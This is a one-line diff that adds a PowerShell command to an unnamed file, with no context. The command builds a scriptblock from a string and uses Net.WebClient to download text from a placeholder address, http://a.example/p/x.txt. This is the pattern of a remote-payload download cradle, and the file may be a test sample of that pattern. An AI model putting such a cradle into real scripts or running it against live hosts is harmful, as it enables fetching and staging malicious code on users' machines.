@@ -1,0 +1,1 @@
+icm ([scriptblock]::Create('$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'))
